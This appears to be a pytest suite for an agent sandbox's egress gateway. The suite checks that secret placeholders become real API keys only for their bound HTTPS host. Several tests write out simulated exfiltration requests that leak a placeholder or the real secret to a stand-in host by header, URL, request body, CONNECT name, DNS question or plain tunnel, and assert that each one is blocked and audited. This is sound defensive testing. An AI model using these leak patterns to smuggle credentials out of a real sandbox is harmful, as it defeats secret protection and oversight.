"""Secret brokering in the egress gateway: real TLS on loopback, a real gateway on a Unix socket.

The upstream is an HTTPS server on 127.0.0.2 with a certificate from a CA of the test's own (the
gateway is told to trust it); a client speaks to the gateway as a guest would: CONNECT, then TLS
that trusts the sandbox CA, or plain HTTP.
"""

from __future__ import annotations

import asyncio
import base64
import json
import socket
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from agentkernel.network.brokering import Armed, Broker, SecretBinding, new_placeholder
from agentkernel.network.gateway import Gateway
from agentkernel.network.hostnames import normalise_host
from agentkernel.network.mitm import Issuer, make_ca
from agentkernel.network.policy import EgressRules
from agentkernel.service import audit

SECRET = "sk-test-0123456789abcdef-REAL"
OTHER_SECRET = "other-real-secret-value-42"
UPSTREAM = "127.0.0.2"  # not in any no_proxy list; Linux answers on all of 127/8
ELSEWHERE = "127.0.0.3"


@dataclass
class Upstream:
    port: int
    ca_file: Path
    received: list[bytes] = field(default_factory=list)


@asynccontextmanager
async def https_upstream(tmp_path: Path, host: str = UPSTREAM) -> AsyncIterator[Upstream]:
    """An HTTPS server that records each request and answers with a model-like JSON body."""
    cert, key = make_ca("upstream-test")
    ca_file = tmp_path / f"upstream-ca-{host}.pem"
    ca_file.write_bytes(cert)
    context = Issuer(cert, key).context(normalise_host(host))
    upstream = Upstream(0, ca_file)

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = next(
            (
                int(line.split(b":")[1])
                for line in head.split(b"\r\n")
                if line.lower().startswith(b"content-length")
            ),
            0,
        )
        upstream.received.append(head + await reader.readexactly(length))
        body = json.dumps({"id": "msg", "usage": {"input_tokens": 12, "output_tokens": 34}}).encode()
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
            % (len(body), body)
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(handle, host, 0, ssl=context)
    upstream.port = server.sockets[0].getsockname()[1]
    async with server:
        yield upstream


@asynccontextmanager
async def plain_upstream(host: str = ELSEWHERE) -> AsyncIterator[tuple[int, list[bytes]]]:
    received: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(65536))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(handle, host, 0)
    async with server:
        yield server.sockets[0].getsockname()[1], received


def binding(name: str, hosts: tuple[str, ...], ca: Path | None, **options: bool) -> SecretBinding:
    return SecretBinding(
        name, new_placeholder(), hosts, f"env:{name}", upstream_ca=str(ca) if ca else None, **options
    )


@asynccontextmanager
async def brokering_gateway(tmp_path: Path, armed: list[Armed]) -> AsyncIterator[tuple[Path, bytes]]:
    """A gateway for sandbox `gwtest` that may reach both loopback servers; yields its socket and the
    sandbox CA's certificate."""
    cert, key = make_ca("gwtest")
    rules = EgressRules(allow=(UPSTREAM, ELSEWHERE))
    sock = tmp_path / "gw.sock"
    gw = Gateway("gwtest", rules, Broker(armed), Issuer(cert, key))
    server = await asyncio.start_unix_server(gw.handle, path=str(sock), limit=65536)
    async with server:
        yield sock, cert


def https_via_gateway(sock: Path, port: int, request: bytes, trust: bytes | None) -> bytes:
    """As a guest: CONNECT through the gateway, TLS trusting `trust` (None: the system store only)."""
    with socket.socket(socket.AF_UNIX) as raw:
        raw.settimeout(10)
        raw.connect(str(sock))
        raw.sendall(f"CONNECT {UPSTREAM}:{port} HTTP/1.1\r\nHost: {UPSTREAM}:{port}\r\n\r\n".encode())
        answer = raw.recv(4096)
        assert answer.startswith(b"HTTP/1.1 200"), answer
        context = ssl.create_default_context(cadata=trust.decode()) if trust else ssl.create_default_context()
        with context.wrap_socket(raw, server_hostname=UPSTREAM) as tls:
            tls.sendall(request)
            chunks = []
            while data := tls.recv(65536):
                chunks.append(data)
            return b"".join(chunks)


def plain_via_gateway(sock: Path, request: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX) as raw:
        raw.settimeout(10)
        raw.connect(str(sock))
        raw.sendall(request)
        chunks = []
        while data := raw.recv(65536):
            chunks.append(data)
        return b"".join(chunks)


def entries(event: str) -> list[dict[str, object]]:
    return [e for e in audit.entries("gwtest") if e["event"] == event]


def run(body: object) -> None:
    asyncio.run(asyncio.wait_for(body, 60))  # type: ignore[arg-type]


def test_placeholder_becomes_the_secret_for_its_host_only(isolated_home: Path, tmp_path: Path) -> None:
    async def body() -> None:
        async with https_upstream(tmp_path) as up:
            key = binding("API_KEY", (UPSTREAM,), up.ca_file, in_url=True, in_body=True)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, ca):
                payload = json.dumps({"key": key.placeholder}).encode()
                request = (
                    f"POST /v1/messages?k={key.placeholder} HTTP/1.1\r\nHost: {UPSTREAM}\r\n"
                    f"x-api-key: {key.placeholder}\r\nAuthorization: Bearer {key.placeholder}\r\n"
                    f"Content-Length: {len(payload)}\r\n\r\n"
                ).encode() + payload
                answer = await asyncio.to_thread(https_via_gateway, sock, up.port, request, ca)
        assert answer.startswith(b"HTTP/1.1 200"), answer
        assert b"Connection: close" in answer and b'"output_tokens": 34' in answer
        (seen,) = up.received
        assert seen.count(SECRET.encode()) == 4  # URL, two headers, body
        assert key.placeholder.encode() not in seen
        assert f"Host: {UPSTREAM}:{up.port}".encode() in seen

    run(body())
    (entry,) = entries("model_request")
    assert entry["status"] == 200 and entry["path"] == "/v1/messages" and entry["secrets"] == ["API_KEY"]
    assert entry["usage"] == {"input_tokens": 12, "output_tokens": 34}
    assert SECRET not in audit.log_path().read_text()


def test_placeholder_stays_in_url_and_body_unless_configured(isolated_home: Path, tmp_path: Path) -> None:
    async def body() -> None:
        async with https_upstream(tmp_path) as up:
            key = binding("API_KEY", (UPSTREAM,), up.ca_file)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, ca):
                payload = key.placeholder.encode()
                request = (
                    f"POST /x?k={key.placeholder} HTTP/1.1\r\nHost: {UPSTREAM}\r\n"
                    f"x-api-key: {key.placeholder}\r\n"
                    f"Content-Length: {len(payload)}\r\n\r\n"
                ).encode() + payload
                await asyncio.to_thread(https_via_gateway, sock, up.port, request, ca)
        (seen,) = up.received
        assert seen.count(SECRET.encode()) == 1  # the header only
        assert seen.count(key.placeholder.encode()) == 2

    run(body())


def test_guest_that_distrusts_the_sandbox_ca_fails_closed(isolated_home: Path, tmp_path: Path) -> None:
    async def body() -> None:
        async with https_upstream(tmp_path) as up:
            key = binding("API_KEY", (UPSTREAM,), up.ca_file)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                request = (
                    f"GET / HTTP/1.1\r\nHost: {UPSTREAM}\r\nx-api-key: {key.placeholder}\r\n\r\n".encode()
                )
                with pytest.raises(ssl.SSLCertVerificationError):
                    await asyncio.to_thread(https_via_gateway, sock, up.port, request, None)
        assert up.received == []

    run(body())
    assert any("TLS with the guest failed" in str(e["reason"]) for e in entries("network"))


def test_gateway_verifies_the_real_host(isolated_home: Path, tmp_path: Path) -> None:
    """Without the upstream's CA, the gateway refuses to send the secret to an unverified host."""

    async def body() -> None:
        async with https_upstream(tmp_path) as up:
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, ca):
                request = (
                    f"GET / HTTP/1.1\r\nHost: {UPSTREAM}\r\nx-api-key: {key.placeholder}\r\n\r\n".encode()
                )
                answer = await asyncio.to_thread(https_via_gateway, sock, up.port, request, ca)
        assert answer.startswith(b"HTTP/1.1 502") and b"CERTIFICATE_VERIFY_FAILED" in answer
        assert up.received == []

    run(body())


@pytest.mark.parametrize("where", ["header", "url", "body", "connect"])
def test_placeholder_to_another_host_is_refused_and_audited(
    isolated_home: Path, tmp_path: Path, where: str
) -> None:
    async def body() -> None:
        async with plain_upstream() as (port, received):
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                ph, host = key.placeholder, f"Host: {ELSEWHERE}:{port}\r\n"
                requests = {
                    "header": f"GET http://{ELSEWHERE}:{port}/ HTTP/1.1\r\n{host}X-K: {ph}\r\n\r\n",
                    "url": f"GET http://{ELSEWHERE}:{port}/?k={ph} HTTP/1.1\r\n{host}\r\n",
                    "body": f"POST http://{ELSEWHERE}:{port}/ HTTP/1.1\r\nHost: {ELSEWHERE}:{port}\r\n"
                    f"Content-Length: {len(ph) + 6}\r\n\r\nleak={ph.upper()}&",
                    "connect": f"CONNECT {ph}.example.com:{port} HTTP/1.1\r\n\r\n",
                }
                answer = await asyncio.to_thread(plain_via_gateway, sock, requests[where].encode())
        assert answer.startswith(b"HTTP/1.1 403"), answer
        assert b"secret API_KEY" in answer
        assert b"".join(received) == b""  # not even the head of the request went out

    run(body())
    (entry,) = entries("exfiltration")
    assert entry["secret"] == "API_KEY" and entry["sandbox"] == "gwtest"
    assert entry["where"] == where and entry["what"] == "placeholder"
    assert entry.get("host") == (None if where == "connect" else ELSEWHERE)  # a CONNECT to it: no host


def test_real_value_or_placeholder_in_a_tunnel_is_cut(isolated_home: Path, tmp_path: Path) -> None:
    """An unencrypted tunnel is read: a secret split over two writes never arrives whole."""

    async def body() -> None:
        async with plain_upstream() as (port, received):
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                reader, writer = await asyncio.open_unix_connection(str(sock))
                writer.write(f"CONNECT {ELSEWHERE}:{port} HTTP/1.1\r\n\r\n".encode())
                assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
                writer.write(b"hello " + SECRET.encode()[:10])
                await writer.drain()
                await asyncio.sleep(0.3)
                writer.write(SECRET.encode()[10:] + b" more")
                await writer.drain()
                await asyncio.wait_for(reader.read(), 10)
                writer.close()
        assert SECRET.encode() not in b"".join(received)

    run(body())
    (entry,) = entries("exfiltration")
    assert entry["what"] == "value" and entry["where"] == "tunnel"


def test_another_secrets_placeholder_is_refused_at_a_secret_host(isolated_home: Path, tmp_path: Path) -> None:
    async def body() -> None:
        async with https_upstream(tmp_path) as up:
            mine = binding("API_KEY", (UPSTREAM,), up.ca_file)
            theirs = binding("OTHER_KEY", ("example.com",), None)
            armed = [Armed(mine, SECRET.encode()), Armed(theirs, OTHER_SECRET.encode())]
            async with brokering_gateway(tmp_path, armed) as (sock, ca):
                request = (
                    f"GET / HTTP/1.1\r\nHost: {UPSTREAM}\r\nx-api-key: {mine.placeholder}\r\n"
                    f"x-other: {theirs.placeholder}\r\n\r\n"
                ).encode()
                answer = await asyncio.to_thread(https_via_gateway, sock, up.port, request, ca)
        assert answer.startswith(b"HTTP/1.1 403")
        assert up.received == []

    run(body())
    (entry,) = entries("exfiltration")
    assert entry["secret"] == "OTHER_KEY" and entry["where"] == "header"


def test_own_placeholder_over_plain_http_is_refused(isolated_home: Path, tmp_path: Path) -> None:
    async def body() -> None:
        async with plain_upstream(UPSTREAM) as (port, received):
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                request = (
                    f"GET http://{UPSTREAM}:{port}/ HTTP/1.1\r\nHost: {UPSTREAM}:{port}\r\n"
                    f"x-api-key: {key.placeholder}\r\n\r\n"
                )
                answer = await asyncio.to_thread(plain_via_gateway, sock, request.encode())
        assert answer.startswith(b"HTTP/1.1 403") and b"only over HTTPS" in answer
        assert received == []

    run(body())


def test_placeholder_in_a_dns_question_is_refused_and_audited(isolated_home: Path) -> None:
    key = binding("API_KEY", (UPSTREAM,), None)
    cert, ca_key = make_ca("gwtest")
    gw = Gateway("gwtest", EgressRules(), Broker([Armed(key, SECRET.encode())]), Issuer(cert, ca_key))
    assert asyncio.run(gw.dns_lookup(f"{key.placeholder}.example.com")) is None
    (entry,) = entries("exfiltration")
    assert entry["where"] == "dns" and entry["secret"] == "API_KEY"


def proxy_credential(userinfo: str) -> str:
    return "Basic " + base64.b64encode(userinfo.encode()).decode()


@pytest.mark.parametrize("userinfo", ["c-1a2b3c4d:agentkernel", "c-1a2b3c4d:"])
def test_exfiltration_entry_names_the_command_the_guest_claims(
    isolated_home: Path, tmp_path: Path, userinfo: str
) -> None:
    """The command id from the proxy address (`launcher.proxy_env`) labels the exfiltration entry and
    the gateway's decision; it is not sent on."""

    async def body() -> None:
        async with plain_upstream() as (port, received):
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                target = f"http://{ELSEWHERE}:{port}"
                auth = f"Proxy-Authorization: {proxy_credential(userinfo)}\r\n"
                leak = f"GET {target}/?k={key.placeholder} HTTP/1.1\r\n{auth}\r\n"
                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
                assert answer.startswith(b"HTTP/1.1 403"), answer
                # A head that does not parse (no host has a '_') still has its command read.
                leak = f"CONNECT {key.placeholder}.example.com:443 HTTP/1.1\r\n{auth}\r\n"
                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
                assert answer.startswith(b"HTTP/1.1 403"), answer
                fine = f"GET {target}/ok HTTP/1.1\r\n{auth}\r\n"
                answer = await asyncio.to_thread(plain_via_gateway, sock, fine.encode())
                assert answer.startswith(b"HTTP/1.1 200"), answer
        (sent,) = received
        assert sent.startswith(b"GET /ok ") and b"proxy-authorization" not in sent.lower()

    run(body())
    in_url, in_connect = entries("exfiltration")
    assert in_url["command"] == "c-1a2b3c4d" and in_url["host"] == ELSEWHERE
    assert in_connect["command"] == "c-1a2b3c4d" and in_connect["where"] == "connect"
    decisions = entries("network")
    assert [d["command"] for d in decisions] == ["c-1a2b3c4d"], decisions


@pytest.mark.parametrize(
    "credential",
    [
        proxy_credential("c-1A2B3C4D:agentkernel"),  # not the id's format
        proxy_credential("c-1a2b3c4d0:agentkernel"),
        proxy_credential("c-1a2b3c4d:other"),
        proxy_credential("c-1a2b3c4d"),
        "Bearer c-1a2b3c4d",
        "Basic !!not-base64!!",
        "Basic " + "QUFB" * 100,
    ],
)
def test_malformed_command_id_is_ignored_and_never_sent_on(
    isolated_home: Path, tmp_path: Path, credential: str
) -> None:
    async def body() -> None:
        async with plain_upstream() as (port, received):
            key = binding("API_KEY", (UPSTREAM,), None)
            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
                request = (
                    f"GET http://{ELSEWHERE}:{port}/ HTTP/1.1\r\nProxy-Authorization: {credential}\r\n\r\n"
                )
                answer = await asyncio.to_thread(plain_via_gateway, sock, request.encode())
                assert answer.startswith(b"HTTP/1.1 200"), answer
                leak = (
                    f"CONNECT {key.placeholder}.example.com:443 HTTP/1.1\r\n"
                    f"Proxy-Authorization: {credential}\r\n\r\n"
                )
                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
                assert answer.startswith(b"HTTP/1.1 403"), answer
        (sent,) = received
        assert b"proxy-authorization" not in sent.lower() and credential.split()[-1].encode() not in sent

    run(body())
    (entry,) = entries("exfiltration")
    assert entry["command"] is None
    assert all(d["command"] is None for d in entries("network"))
